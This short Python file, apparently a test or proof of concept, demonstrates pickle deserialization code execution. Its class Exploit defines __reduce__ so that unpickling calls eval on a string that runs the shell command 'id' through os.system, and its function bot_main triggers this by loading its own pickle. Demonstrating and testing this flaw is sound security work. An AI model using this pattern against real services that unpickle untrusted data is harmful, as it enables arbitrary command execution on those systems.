"""A pickle that rebuilds code and functions, and calls them."""

import pickle


class Exploit:
    def __reduce__(self):
        return eval, ("__import__('os').system('id')",)


def bot_main(data):
    return [pickle.loads(pickle.dumps(Exploit()))]
